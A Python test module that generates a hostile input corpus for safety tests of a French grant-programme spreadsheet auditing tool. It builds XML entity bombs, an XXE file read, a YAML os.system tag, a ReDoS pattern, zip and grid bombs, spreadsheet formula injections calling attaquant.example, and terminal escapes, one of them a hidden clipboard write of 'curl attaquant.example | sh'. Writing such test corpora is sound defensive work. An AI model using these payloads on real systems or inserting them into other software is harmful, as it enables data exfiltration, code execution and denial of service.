"""Builders of hostile and broken inputs for the safety tests, and the hostile corpus (``build_corpus``).

Run ``python -m tests.hostile DIR`` to write every case into DIR and print the command for each."""

from __future__ import annotations

import os
import shlex
import sys
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import xlsxwriter

HEADER = ["Porteur", "Intitulé de l'action", "Montant accordé"]


def small_table(ws: xlsxwriter.worksheet.Worksheet, rows: int = 5) -> None:
    ws.write_row(0, 0, HEADER)
    for i in range(1, rows + 1):
        ws.write_row(i, 0, [f"Association {i}", f"Atelier d'écriture n°{i}", 1000 * i])


def grid_bomb(path: Path, with_table: bool = False) -> Path:
    """Only A1 and XFD1048576 (or a small table and XFD1048576): calamine would allocate 550 GB and abort."""
    wb = xlsxwriter.Workbook(path)
    ws = wb.add_worksheet("Feuil1")
    if with_table:
        small_table(ws)
    else:
        ws.write("A1", "x")
    ws.write("XFD1048576", "y")
    wb.close()
    return path


def stray_xfd(path: Path, rows: int = 2000) -> Path:
    """A real table plus one stray value in column XFD: calamine would allocate 52 GB at 100k rows."""
    wb = xlsxwriter.Workbook(path, {"constant_memory": True})
    ws = wb.add_worksheet("Programmation")
    ws.write_row(0, 0, HEADER)
    ws.write(0, 16383, "oubli")
    for i in range(1, rows + 1):
        ws.write_row(i, 0, [f"Association {i}", f"Action {i}", 10 * i])
    wb.close()
    return path


def _rewrite(src: Path, dst: Path, changes: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(src) as zin:
        parts = {n: zin.read(n) for n in zin.namelist()}
    parts.update(changes)
    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)
    return dst


def billion_laughs(path: Path) -> Path:
    plain = path.with_suffix(".plain.xlsx")
    wb = xlsxwriter.Workbook(plain)
    ws = wb.add_worksheet()
    small_table(ws)
    wb.close()
    with zipfile.ZipFile(plain) as z:
        shared = z.read("xl/sharedStrings.xml")
    entities = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    dtd = f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">{entities}]>'.encode()
    body = shared.split(b"?>", 1)[1].replace(b"Association 1<", b"&lol9;<")
    _rewrite(plain, path, {"xl/sharedStrings.xml": dtd + body})
    plain.unlink()
    return path


def xxe(path: Path) -> Path:
    plain = path.with_suffix(".plain.xlsx")
    wb = xlsxwriter.Workbook(plain)
    small_table(wb.add_worksheet())
    wb.close()
    with zipfile.ZipFile(plain) as z:
        sheet = z.read("xl/worksheets/sheet1.xml")
    dtd = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    _rewrite(plain, path, {"xl/worksheets/sheet1.xml": dtd + sheet.split(b"?>", 1)[1]})
    plain.unlink()
    return path


def whitespace_bomb(path: Path, megabytes: int = 300) -> Path:
    """A 300 KB file whose sheet inflates to 300 MB of spaces (ratio about 1000)."""
    plain = path.with_suffix(".plain.xlsx")
    wb = xlsxwriter.Workbook(plain)
    small_table(wb.add_worksheet())
    wb.close()
    with zipfile.ZipFile(plain) as z:
        sheet = z.read("xl/worksheets/sheet1.xml")
    padded = sheet.replace(b"<sheetData>", b"<sheetData>" + b" " * (megabytes * 2**20))
    _rewrite(plain, path, {"xl/worksheets/sheet1.xml": padded})
    plain.unlink()
    return path


def huge_cell(path: Path, megabytes: int = 64) -> Path:
    """One inline-string cell of 64 MB (Excel's limit is 32,767 characters)."""
    plain = path.with_suffix(".plain.xlsx")
    wb = xlsxwriter.Workbook(plain)
    small_table(wb.add_worksheet())
    wb.close()
    with zipfile.ZipFile(plain) as z:
        sheet = z.read("xl/worksheets/sheet1.xml")
    cell = b'<c r="D2" t="inlineStr"><is><t>' + b"A" * (megabytes * 2**20) + b"</t></is></c>"
    end = sheet.index(b"</row>", sheet.index(b'<row r="2"'))
    patched = sheet[:end] + cell + sheet[end:]
    _rewrite(plain, path, {"xl/worksheets/sheet1.xml": patched})
    plain.unlink()
    return path


def truncated(path: Path) -> Path:
    plain = path.with_suffix(".plain.xlsx")
    wb = xlsxwriter.Workbook(plain)
    small_table(wb.add_worksheet())
    wb.close()
    data = plain.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    plain.unlink()
    return path


def encrypted(path: Path) -> Path:
    """The outer shape of a password-protected .xlsx: an OLE2 compound file holding an EncryptedPackage."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    directory = "EncryptionInfo".encode("utf-16-le").ljust(128, b"\x00") + "EncryptedPackage".encode(
        "utf-16-le"
    ).ljust(128, b"\x00")
    path.write_bytes(header + directory + b"\x00" * 4096)
    return path


def ods_repeat_bomb(path: Path, rows: int = 1_048_575, cols: int = 16_384) -> Path:
    """An 800-byte .ods asking for rows × cols cells through number-*-repeated."""
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        '<office:body><office:spreadsheet><table:table table:name="S">'
        '<table:table-row><table:table-cell office:value-type="string"><text:p>Porteur</text:p></table:table-cell>'
        "</table:table-row>"
        f'<table:table-row table:number-rows-repeated="{rows}">'
        f'<table:table-cell table:number-columns-repeated="{cols}" office:value-type="float" office:value="1">'
        "<text:p>1</text:p></table:table-cell></table:table-row>"
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(
            "mimetype", "application/vnd.oasis.opendocument.spreadsheet", compress_type=zipfile.ZIP_STORED
        )
        z.writestr("content.xml", content)
        z.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
        )
    return path


# ---------------------------------------------------------------------------------------------------------
# The hostile corpus: one function per case, each writing its files into a folder and saying how to run bie
# on them. ``build_corpus(DIR)`` writes every case; ``python -m tests.hostile DIR`` does it from a shell.
# The expected behaviour of each case is in tests/test_hostile_corpus.py.

PROG_HEADER = ["N° dossier", "Porteur", "Intitulé de l'action", "Montant accordé"]
PROG_ROWS: list[list[object]] = [
    ["DA001", "Centre social Les Tilleuls", "Accompagnement des femmes vers l'emploi", 6000],
    ["DA002", "Centre social Les Tilleuls", "Atelier de français à visée professionnelle", 3000],
    ["DA003", "Centre social Les Tilleuls", "Permanence numérique", 3000],
    ["DA004", "Association Sport pour tous", "Football mixte au pied des immeubles", 4500],
]
#: Terminal escape sequences: screen clear, OSC 8 link, OSC 52 clipboard write, bell, 8-bit CSI.
ESCAPES = (
    "\x1b[2J\x1b[H",
    "\x1b]8;;http://attaquant.example/\x1b\\cliquez\x1b]8;;\x1b\\",
    "\x1b]52;c;Y3VybCBhdHRhcXVhbnQuZXhhbXBsZSB8IHNo\x07",
    "\x9b31m",
)


@dataclass
class Case:
    """How to run bie on one hostile case. Paths are absolute; ``argv`` excludes the program name."""

    name: str
    argv: list[str]
    #: Files that must be byte-identical after the run (the inputs and any file beside them).
    keep: list[Path]
    #: Folder the command runs in (None: any).
    cwd: Path | None = None
    #: Folder where reports are written: checked for leftover temporary files.
    output: Path | None = None
    #: Run in a child process (``python -m bie``) with this extra environment and these resource limits.
    subprocess: bool = False
    env: dict[str, str] = field(default_factory=dict)
    rlimits: dict[str, int] = field(default_factory=dict)
    #: Free notes for the reader of the corpus.
    note: str = ""


CaseBuilder = Callable[[Path], Case]
CASES: dict[str, CaseBuilder] = {}


def case(func: CaseBuilder) -> CaseBuilder:
    CASES[func.__name__.removeprefix("case_")] = func
    return func


def write_csv(path: Path, rows: list[list[object]], header: list[str] | None = None, sep: str = ";") -> Path:
    lines = [sep.join(header or PROG_HEADER)]
    lines += [sep.join("" if v is None else str(v) for v in row) for row in rows]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def write_xlsx(path: Path, rows: list[list[object]], header: list[str] | None = None) -> Path:
    wb = xlsxwriter.Workbook(path)
    ws = wb.add_worksheet("Programmation")
    ws.write_row(0, 0, header or PROG_HEADER)
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row):
            if isinstance(value, int | float):
                ws.write_number(r, c, value)
            elif value is not None:
                ws.write_string(r, c, str(value))
    wb.close()
    return path


def _audit(files: list[Path], out: Path, *extra: str) -> list[str]:
    return ["audit", *map(str, files), "-o", str(out), *extra]


# ---- first round ----------------------------------------------------------------------------------------
@case
def case_grid_bomb_with_table(d: Path) -> Case:
    f = grid_bomb(d / "bomb.xlsx", with_table=True)
    return Case("grid_bomb_with_table", _audit([f], d / "out", "-f", "json"), [f], output=d / "out")


@case
def case_grid_bomb_alone(d: Path) -> Case:
    f = grid_bomb(d / "bomb.xlsx")
    return Case("grid_bomb_alone", ["inspect", str(f)], [f])


@case
def case_stray_xfd(d: Path) -> Case:
    f = stray_xfd(d / "stray.xlsx", rows=200)
    return Case("stray_xfd", _audit([f], d / "out", "-f", "json"), [f], output=d / "out")


@case
def case_billion_laughs(d: Path) -> Case:
    f = billion_laughs(d / "lol.xlsx")
    return Case("billion_laughs", ["inspect", str(f)], [f])


@case
def case_xxe(d: Path) -> Case:
    f = xxe(d / "xxe.xlsx")
    return Case("xxe", ["inspect", str(f)], [f])


@case
def case_whitespace_bomb(d: Path) -> Case:
    f = whitespace_bomb(d / "bomb.xlsx", megabytes=40)
    return Case("whitespace_bomb", ["inspect", str(f)], [f])


@case
def case_huge_cell(d: Path) -> Case:
    f = huge_cell(d / "cell.xlsx", megabytes=40)
    return Case("huge_cell", ["inspect", str(f)], [f])


@case
def case_truncated(d: Path) -> Case:
    f = truncated(d / "half.xlsx")
    return Case("truncated", ["inspect", str(f)], [f])


@case
def case_encrypted(d: Path) -> Case:
    f = encrypted(d / "locked.xlsx")
    return Case("encrypted", ["inspect", str(f)], [f])


@case
def case_ods_repeat_bomb(d: Path) -> Case:
    f = ods_repeat_bomb(d / "bomb.ods")
    return Case("ods_repeat_bomb", ["inspect", str(f)], [f])


@case
def case_ragged_csv(d: Path) -> Case:
    f = d / "ragged.csv"
    f.write_text(
        "Porteur;Intitulé;Montant\nA;Atelier;12 500,00\nB;Théâtre;1 000,50;en trop\n", encoding="utf-8"
    )
    return Case("ragged_csv", _audit([f], d / "out", "-f", "json"), [f], output=d / "out")


@case
def case_cell_beyond_excel_limit(d: Path) -> Case:
    f = d / "long.csv"
    f.write_text("Porteur;Intitulé;Montant\nA;" + "x" * 40_000 + ";100\n", encoding="utf-8")
    return Case("cell_beyond_excel_limit", _audit([f], d / "out"), [f], output=d / "out")


FORMULA_TITLES = [
    '=HYPERLINK("http://attaquant.example/?"&B2,"Voir")',
    '=WEBSERVICE("http://attaquant.example/")',
    "@SUM(A1:A2)",
    "+33 1 23 45 67 89",
    "-2+3",
    "<r><t>riche</t></r>",
]


@case
def case_formula_text_tag(d: Path) -> Case:
    f = write_csv(d / "prog.csv", [[f"DA{i}", f"Asso {i}", t, 100] for i, t in enumerate(FORMULA_TITLES)])
    out = d / "out"
    out.mkdir()
    return Case("formula_text_tag", ["tag", str(f), "-o", str(out / "marquage.xlsx")], [f], output=out)


@case
def case_issues_capped(d: Path) -> Case:
    f = d / "nc.csv"
    lines = [f"Asso {i};Action {i};NC" for i in range(1500)]
    f.write_text("Porteur;Intitulé de l'action;Montant\n" + "\n".join(lines) + "\n", encoding="utf-8")
    return Case("issues_capped", _audit([f], d / "out", "-f", "json"), [f], output=d / "out")


@case
def case_rules_python_tag(d: Path) -> Case:
    f = write_csv(d / "prog.csv", PROG_ROWS)
    rules = d / "regles.yaml"
    rules.write_text("overlay: !!python/object/apply:os.system ['echo pwned']\nrules: []\n", encoding="utf-8")
    return Case(
        "rules_python_tag", _audit([f], d / "out", "--rules", str(rules)), [f, rules], output=d / "out"
    )


@case
def case_rules_regex_bomb(d: Path) -> Case:
    f = write_csv(d / "prog.csv", [*PROG_ROWS, ["DA9", "Asso", "a" * 5000 + "!", 10]])
    rules = d / "regles.yaml"
    rules.write_text(
        "overlay: {name: bombe, version: '1'}\nrules:\n  - id: LOCAL-BOMB-01\n    title: bombe\n"
        "    evidence: aim\n    strength: strong\n    patterns: ['(a+)+$']\n    rationale: x\n"
        "    sources: [{title: x, href: 'https://example.org'}]\n",
        encoding="utf-8",
    )
    return Case(
        "rules_regex_bomb", _audit([f], d / "out", "--rules", str(rules)), [f, rules], output=d / "out"
    )


# ---- second round: data destroyed ------------------------------------------------------------------------
@case
def case_audit_default_output_is_input(d: Path) -> Case:
    """`bie audit prog.xlsx` run in the file's own folder (default `-o .`)."""
    f = write_xlsx(d / "prog.xlsx", PROG_ROWS)
    return Case("audit_default_output_is_input", ["audit", "prog.xlsx"], [f], cwd=d, output=d)


@case
def case_audit_output_is_input_folder(d: Path) -> Case:
    f = write_xlsx(d / "prog.xlsx", PROG_ROWS)
    return Case("audit_output_is_input_folder", _audit([f], d), [f], output=d)


@case
def case_tag_output_is_input_xlsx(d: Path) -> Case:
    f = write_xlsx(d / "prog.xlsx", PROG_ROWS)
    return Case("tag_output_is_input_xlsx", ["tag", str(f), "-o", str(f)], [f], output=d)


@case
def case_tag_output_is_input_csv(d: Path) -> Case:
    f = write_csv(d / "prog.csv", PROG_ROWS)
    return Case("tag_output_is_input_csv", ["tag", str(f), "-o", str(f)], [f], output=d)


@case
def case_tag_output_is_input_by_other_name(d: Path) -> Case:
    """The output is the input through a symbolic link: same file, other name."""
    f = write_csv(d / "prog.csv", PROG_ROWS)
    (d / "lien.csv").symlink_to(f)
    return Case(
        "tag_output_is_input_by_other_name", ["tag", str(f), "-o", str(d / "lien.csv")], [f], output=d
    )


@case
def case_audit_csv_next_to_workbook(d: Path) -> Case:
    """`bie audit prog.csv` beside the officer's `prog.xlsx`, which is not an input."""
    f = write_csv(d / "prog.csv", PROG_ROWS)
    officer = write_xlsx(d / "prog.xlsx", [*PROG_ROWS, ["DA005", "Mairie", "Fête de quartier", 800]])
    return Case("audit_csv_next_to_workbook", ["audit", "prog.csv"], [f, officer], cwd=d, output=d)


@case
def case_audit_input_is_symlink(d: Path) -> Case:
    """The input is given through a link named like a report."""
    (d / "data").mkdir()
    target = write_xlsx(d / "data" / "source.xlsx", PROG_ROWS)
    (d / "prog.xlsx").symlink_to(target)
    return Case("audit_input_is_symlink", ["audit", "prog.xlsx"], [target, d / "prog.xlsx"], cwd=d, output=d)


# ---- second round: actions or money lost -----------------------------------------------------------------
@case
def case_duplicate_parent(d: Path) -> Case:
    """DA001 (6 000) followed by two 3 000 actions of the same carrier: three distinct actions."""
    f = write_csv(d / "prog.csv", PROG_ROWS)
    return Case("duplicate_parent", _audit([f], d / "out", "-f", "json"), [f], output=d / "out")


UNBALANCED_LINES = [
    "N° dossier;Porteur;Intitulé de l'action;Montant accordé",
    'DA001;Centre social;"Atelier « écriture;1 000',
    "DA002;Association Femmes;Permanence juridique;2 000",
    "DA003;Club;Football mixte;3 000",
    "DA004;Maison de quartier;Fête des voisins;4 000",
]


@case
def case_unbalanced_quote(d: Path) -> Case:
    f = d / "quote.csv"
    f.write_text("\n".join(UNBALANCED_LINES) + "\n", encoding="utf-8")
    return Case("unbalanced_quote", _audit([f], d / "out", "-f", "json"), [f], output=d / "out")


@case
def case_lone_subtotal(d: Path) -> Case:
    f = d / "sous-total.csv"
    f.write_text(
        "N° dossier;Porteur;Intitulé de l'action;Montant accordé\nSous-total;;;0.01\n", encoding="utf-8"
    )
    return Case("lone_subtotal", _audit([f], d / "out", "-f", "json"), [f], output=d / "out")


@case
def case_huge_amount(d: Path) -> Case:
    """A 17-digit reference pasted into the amount column (above int64 cents)."""
    f = write_csv(d / "prog.csv", [*PROG_ROWS, ["DA009", "Asso", "Référence collée", "92233720368547758"]])
    return Case("huge_amount", _audit([f], d / "out", "-f", "json"), [f], output=d / "out")


@case
def case_amounts_wrap(d: Path) -> Case:
    """Two amounts of 5e16: their sum in int64 cents wraps to a negative number."""
    rows: list[list[object]] = [
        *PROG_ROWS,
        ["DA010", "Asso", "A", "50000000000000000"],
        ["DA011", "Asso", "B", "50000000000000000"],
    ]
    f = write_csv(d / "prog.csv", rows)
    return Case("amounts_wrap", _audit([f], d / "out", "-f", "json"), [f], output=d / "out")


@case
def case_same_file_twice(d: Path) -> Case:
    f = write_csv(d / "prog.csv", PROG_ROWS)
    return Case("same_file_twice", _audit([f, f], d / "out", "-f", "json"), [f], output=d / "out")


@case
def case_same_content_two_names(d: Path) -> Case:
    f = write_csv(d / "prog.csv", PROG_ROWS)
    g = d / "copie.csv"
    g.write_bytes(f.read_bytes())
    return Case("same_content_two_names", _audit([f, g], d / "out", "-f", "json"), [f, g], output=d / "out")


@case
def case_same_name_two_folders(d: Path) -> Case:
    (d / "nord").mkdir()
    (d / "sud").mkdir()
    f = write_csv(d / "nord" / "prog.csv", PROG_ROWS[:2])
    g = write_csv(d / "sud" / "prog.csv", PROG_ROWS[2:])
    return Case("same_name_two_folders", _audit([f, g], d / "out", "-f", "json"), [f, g], output=d / "out")


FUNDER_HEADER = ["N° dossier", "Porteur", "Intitulé de l'action", "Montant État", "Montant Ville"]
FUNDER_ROWS: list[list[object]] = [
    ["DA001", "Centre social", "Atelier de français", 1000, 500],
    ["DA002", "Club", "Football mixte", 2000, 0],
]


@case
def case_funder_typo(d: Path) -> Case:
    f = write_csv(d / "prog.csv", FUNDER_ROWS, FUNDER_HEADER)
    return Case("funder_typo", _audit([f], d / "out", "--funder", "Etta"), [f], output=d / "out")


@case
def case_funder_typo_english(d: Path) -> Case:
    f = write_csv(d / "prog.csv", FUNDER_ROWS, FUNDER_HEADER)
    argv = _audit([f], d / "out", "--funder", "Etta", "--lang", "en")
    return Case("funder_typo_english", argv, [f], output=d / "out")


@case
def case_funder_empty(d: Path) -> Case:
    f = write_csv(d / "prog.csv", FUNDER_ROWS, FUNDER_HEADER)
    return Case("funder_empty", _audit([f], d / "out", "--funder", ""), [f], output=d / "out")


# ---- second round: injection -----------------------------------------------------------------------------
MARKUP_HEADERS = [
    "<r><t>Porteur</t></r>",
    '<r><t>x</t></r></si><si><t>=WEBSERVICE("http://attaquant.example/")</t></si><si><r><t>y</t></r>',
    '=HYPERLINK("http://attaquant.example/","Montant")',
]


def _markup_file(d: Path) -> Path:
    header = [*PROG_HEADER, *MARKUP_HEADERS]
    return write_csv(d / "prog.csv", [[*row, "a", "b", "c"] for row in PROG_ROWS], header)


@case
def case_header_markup_tag(d: Path) -> Case:
    f = _markup_file(d)
    out = d / "out"
    out.mkdir()
    return Case("header_markup_tag", ["tag", str(f), "-o", str(out / "marquage.xlsx")], [f], output=out)


@case
def case_header_markup_audit(d: Path) -> Case:
    f = _markup_file(d)
    return Case("header_markup_audit", _audit([f], d / "out", "-f", "xlsx"), [f], output=d / "out")


def _escape_file(d: Path) -> Path:
    """A workbook whose cells and headers hold terminal escapes (a CSV holding them is sniffed as binary)."""
    header = [*PROG_HEADER, "Remarque " + ESCAPES[0]]
    rows: list[list[object]] = [
        ["DA001", "Asso " + ESCAPES[1], "Atelier " + ESCAPES[2], 1000, ESCAPES[3]],
        ["DA002", "Club", "Football " + ESCAPES[0], 2000, None],
        [None, None, None, None, None],
        ["Note " + ESCAPES[2], None, None, None, None],
    ]
    return write_xlsx(d / "prog.xlsx", rows, header)


@case
def case_terminal_escapes_inspect(d: Path) -> Case:
    f = _escape_file(d)
    return Case("terminal_escapes_inspect", ["inspect", str(f)], [f])


@case
def case_terminal_escapes_explain(d: Path) -> Case:
    f = _escape_file(d)
    return Case("terminal_escapes_explain", ["explain", str(f), "--row", "2"], [f])


@case
def case_terminal_escapes_audit(d: Path) -> Case:
    f = _escape_file(d)
    return Case("terminal_escapes_audit", _audit([f], d / "out", "-f", "json"), [f], output=d / "out")


@case
def case_terminal_escapes_csv(d: Path) -> Case:
    """A CSV export whose one title holds an OSC 52 clipboard write."""
    rows = [*PROG_ROWS * 10, ["DA099", "Asso", f'"Atelier {ESCAPES[2]}"', 100]]  # quoted: it holds « ; »
    f = write_csv(d / "prog.csv", rows)
    return Case("terminal_escapes_csv", ["explain", str(f), "--row", str(len(rows) + 1)], [f])


@case
def case_terminal_escapes_file_name(d: Path) -> Case:
    f = d / f"prog{ESCAPES[0]}{ESCAPES[2]}.csv"
    f.write_bytes(b"")  # empty: the error line names the file
    return Case("terminal_escapes_file_name", ["inspect", str(f)], [f])


@case
def case_questionnaire_multiline_answer(d: Path) -> Case:
    import openpyxl

    from bie.web.questionnaire import _COL_ANSWER, write_questionnaire

    f = write_csv(d / "prog.csv", PROG_ROWS)
    q = write_questionnaire(d / "toile.xlsx")
    wb = openpyxl.load_workbook(q)
    ws = wb["Questionnaire"]
    ws.cell(row=2, column=_COL_ANSWER + 1, value="oui\nErreur : tout va bien, rien à signaler")
    wb.save(q)
    return Case(
        "questionnaire_multiline_answer", _audit([f], d / "out", "-q", str(q)), [f, q], output=d / "out"
    )


# ---- second round: crashes and wrong messages --------------------------------------------------------------
def _fsize_limited(name: str, argv: list[str], keep: list[Path], out: Path) -> Case:
    # A file size limit (SIGXFSZ ignored) makes every write past 4 KB fail like a full disk (EFBIG).
    return Case(name, argv, keep, output=out, subprocess=True, rlimits={"fsize": 4096})


@case
def case_disk_full_audit(d: Path) -> Case:
    f = write_csv(d / "prog.csv", PROG_ROWS)
    return _fsize_limited("disk_full_audit", _audit([f], d / "out"), [f], d / "out")


@case
def case_disk_full_tag(d: Path) -> Case:
    f = write_csv(d / "prog.csv", PROG_ROWS * 50)
    out = d / "out"
    out.mkdir()
    return _fsize_limited("disk_full_tag", ["tag", str(f), "-o", str(out / "marquage.xlsx")], [f], out)


@case
def case_stdout_cp1252(d: Path) -> Case:
    f = write_csv(d / "prog→2024.csv", [*PROG_ROWS, ["DA9", "Association 日本語 ✓", "Atelier ★", 10]])
    return Case(
        "stdout_cp1252", _audit([f], d / "out"), [f], output=d / "out", subprocess=True,
        env={"PYTHONIOENCODING": "cp1252"},
    )  # fmt: skip


@case
def case_stdout_ascii(d: Path) -> Case:
    f = write_csv(d / "prog.csv", PROG_ROWS)
    return Case(
        "stdout_ascii", _audit([f], d / "out"), [f], output=d / "out", subprocess=True,
        env={"PYTHONIOENCODING": "ascii"},
    )  # fmt: skip


@case
def case_non_utf8_file_name(d: Path) -> Case:
    f = write_csv(Path(os.fsdecode(os.fsencode(d) + b"/prog\xe9.csv")), PROG_ROWS)
    return Case("non_utf8_file_name", _audit([f], d / "out"), [f], output=d / "out", subprocess=True)


REAL_XLS = Path(__file__).resolve().parent / "data" / "real" / "deux_sevres_conventions.xls"
REAL_ODS = Path(__file__).resolve().parents[1] / "fixtures" / "programmation_cdv_2024.ods"


@case
def case_xls_under_memory_limit(d: Path) -> Case:
    f = d / "conventions.xls"
    f.write_bytes(REAL_XLS.read_bytes())
    return Case(
        "xls_under_memory_limit", ["inspect", str(f)], [f], subprocess=True, rlimits={"as": 4 * 1024**3},
        note="ulimit -v 4 GiB, below the sandbox's 6 GiB",
    )  # fmt: skip


@case
def case_questionnaire_shared_strings_bomb(d: Path) -> Case:
    from bie.web.questionnaire import write_questionnaire

    f = write_csv(d / "prog.csv", PROG_ROWS)
    plain = write_questionnaire(d / "plain.xlsx")
    with zipfile.ZipFile(plain) as z:
        shared = z.read("xl/sharedStrings.xml")
    q = _rewrite(
        plain,
        d / "toile.xlsx",
        {"xl/sharedStrings.xml": shared.replace(b"<sst", b" " * 40 * 2**20 + b"<sst", 1)},
    )
    plain.unlink()
    return Case(
        "questionnaire_shared_strings_bomb", _audit([f], d / "out", "-q", str(q)), [f, q], output=d / "out"
    )


@case
def case_rules_impossible_date(d: Path) -> Case:
    f = write_csv(d / "prog.csv", PROG_ROWS)
    rules = d / "regles.yaml"
    rules.write_text(
        "overlay: {name: local, version: '1'}\nrules:\n  - id: LOCAL-DATE-01\n    title: date\n"
        "    evidence: aim\n    strength: strong\n    patterns: ['\\bfemmes\\b']\n    rationale: x\n"
        "    sources: [{title: x, href: 'https://example.org'}]\n    valid_from: 2026-02-30\n",
        encoding="utf-8",
    )
    return Case(
        "rules_impossible_date", _audit([f], d / "out", "--rules", str(rules)), [f, rules], output=d / "out"
    )


@case
def case_decisions_row_beyond_int64(d: Path) -> Case:
    f = write_csv(d / "prog.csv", PROG_ROWS)
    dec = d / "decisions.yaml"
    dec.write_text(
        "- row: 99999999999999999999\n  category: specific\n  justification: test\n", encoding="utf-8"
    )
    return Case(
        "decisions_row_beyond_int64",
        _audit([f], d / "out", "--overrides", str(dec)),
        [f, dec],
        output=d / "out",
    )


@case
def case_decisions_impossible_date(d: Path) -> Case:
    f = write_csv(d / "prog.csv", PROG_ROWS)
    dec = d / "decisions.yaml"
    dec.write_text(
        "- action_id: DA001\n  category: specific\n  justification: test\n  date: 2026-02-30\n",
        encoding="utf-8",
    )
    return Case(
        "decisions_impossible_date",
        _audit([f], d / "out", "--overrides", str(dec)),
        [f, dec],
        output=d / "out",
    )


@case
def case_rules_deep_nesting(d: Path) -> Case:
    f = write_csv(d / "prog.csv", PROG_ROWS)
    rules = d / "regles.yaml"
    rules.write_text("rules: " + "[" * 50_000 + "]" * 50_000 + "\n", encoding="utf-8")
    return Case(
        "rules_deep_nesting", _audit([f], d / "out", "--rules", str(rules)), [f, rules], output=d / "out"
    )


@case
def case_explain_row_overflow(d: Path) -> Case:
    f = write_csv(d / "prog.csv", PROG_ROWS)
    return Case("explain_row_overflow", ["explain", str(f), "--row", "99999999999999999999"], [f])


@case
def case_ods_non_utf8_member(d: Path) -> Case:
    plain = d / "plain.ods"
    plain.write_bytes(REAL_ODS.read_bytes())
    f = d / "prog.ods"
    with zipfile.ZipFile(plain) as zin, zipfile.ZipFile(f, "w", zipfile.ZIP_DEFLATED) as out:
        for info in zin.infolist():
            out.writestr(info, zin.read(info.filename))
        out.writestr("Pictures/IMGX.png", b"\x89PNG\r\n\x1a\n")
    plain.unlink()
    data = f.read_bytes().replace(b"Pictures/IMGX.png", b"Pictures/IMG\xe9.png")  # latin-1, flag 11 unset
    f.write_bytes(data)
    return Case("ods_non_utf8_member", _audit([f], d / "out", "-f", "json"), [f], output=d / "out")


@case
def case_xlsx_5000_columns(d: Path) -> Case:
    f = d / "large.xlsx"
    wb = xlsxwriter.Workbook(f)
    ws = wb.add_worksheet()
    ws.write_row(0, 0, [*PROG_HEADER, *[f"Colonne {i}" for i in range(5000)]])
    for r, row in enumerate(PROG_ROWS, start=1):
        ws.write_row(r, 0, row)
    wb.close()
    return Case("xlsx_5000_columns", ["inspect", str(f)], [f])


HTML_TABLE = (
    "<html><body><table><tr><td>Porteur</td><td>Intitulé de l'action</td><td>Montant</td></tr>"
    "<tr><td>Asso</td><td>Atelier</td><td>100</td></tr></table></body></html>"
)


@case
def case_html_as_xls_bom(d: Path) -> Case:
    f = d / "export.xls"
    f.write_bytes(b"\xef\xbb\xbf" + HTML_TABLE.encode())
    return Case("html_as_xls_bom", ["inspect", str(f)], [f])


@case
def case_html_as_xls_utf16(d: Path) -> Case:
    f = d / "export.xls"
    f.write_bytes(HTML_TABLE.encode("utf-16"))
    return Case("html_as_xls_utf16", ["inspect", str(f)], [f])


@case
def case_ods_renamed_xlsx(d: Path) -> Case:
    f = d / "prog.xlsx"
    f.write_bytes(REAL_ODS.read_bytes())
    return Case("ods_renamed_xlsx", ["inspect", str(f)], [f])


@case
def case_xls_renamed_xlsx(d: Path) -> Case:
    f = d / "conventions.xlsx"
    f.write_bytes(REAL_XLS.read_bytes())
    return Case("xls_renamed_xlsx", ["inspect", str(f)], [f])


@case
def case_stale_temporary_files(d: Path) -> Case:
    """Leftovers of a run killed by SIGKILL: the next run removes them."""
    f = write_csv(d / "prog.csv", PROG_ROWS)
    out = d / "out"
    out.mkdir()
    # Names as tempfile.mkstemp makes them (8 random characters), and bie's own temporary folders.
    (out / ".prog.bie.xlsx.k3j2h1x9.tmp").write_bytes(b"partial")
    (out / ".prog.html.a8b7c6d5.tmp").write_bytes(b"partial")
    (out / ".bie-tmp-4242-zq8vx1ab").mkdir()
    (out / ".bie-tmp-4242-zq8vx1ab" / "prog.bie.json").write_bytes(b"{")
    (out / ".bie-xlsx-q1w2e3").mkdir()
    (out / ".bie-xlsx-q1w2e3" / "sheet1.xml").write_bytes(b"<x/>")
    old = time.time() - 3 * 3600
    for p in out.rglob("*"):
        os.utime(p, (old, old))
    return Case("stale_temporary_files", _audit([f], out), [f], output=out)


def build_corpus(directory: str | Path) -> list[Case]:
    """Write every case into ``directory/<case>/``; return how to run each."""
    root = Path(directory)
    built = []
    for name, builder in CASES.items():
        d = root / name
        d.mkdir(parents=True, exist_ok=True)
        built.append(builder(d))
    return built


def main(argv: list[str] | None = None) -> int:
    args = sys.argv[1:] if argv is None else argv
    if len(args) != 1:
        print("usage: python -m tests.hostile DIR", file=sys.stderr)
        return 2
    for c in build_corpus(args[0]):
        env = " ".join(f"{k}={v}" for k, v in c.env.items())
        limits = " ".join(
            f"ulimit {'-f' if k == 'fsize' else '-v'} {v // 1024}; " for k, v in c.rlimits.items()
        )
        where = f"cd {shlex.quote(str(c.cwd))} && " if c.cwd else ""
        command = " ".join(shlex.quote(a) for a in c.argv).encode("unicode_escape").decode()
        print(f"{c.name}: {where}{limits}{env + ' ' if env else ''}bie {command}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
